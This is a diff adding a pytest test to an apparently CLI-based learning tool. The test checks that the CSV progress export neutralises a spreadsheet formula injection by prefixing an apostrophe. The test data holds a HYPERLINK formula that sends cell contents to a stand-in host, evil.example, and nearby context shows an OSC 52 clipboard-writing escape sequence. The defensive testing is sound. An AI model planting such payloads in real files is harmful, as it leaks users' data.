@@ -80,6 +80,17 @@ def test_csv_shows_control_characters_escaped(home, capsys):
     assert out.count("\\x1b]52;c;aGFja2VkLWNsaXA=\\x07") == 2  # the answer and the message
 
 
+def test_csv_keeps_a_typed_formula_from_running_in_a_spreadsheet(home, capsys):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    with ProgressStore() as store:
+        store.record_attempt("llm-basics", "context-name", formula, False, "Not quite.",
+                             device="cpu", torch_version="t")
+    assert main(["progress", "--csv"]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert rows[-1]["answer"] == "'" + formula
+    assert rows[0]["answer"] == "-0.09"  # a number is left as typed
+
+
 def test_csv_has_one_row_per_attempt(home, capsys):
     assert main(["progress", "--csv"]) == 0
     rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
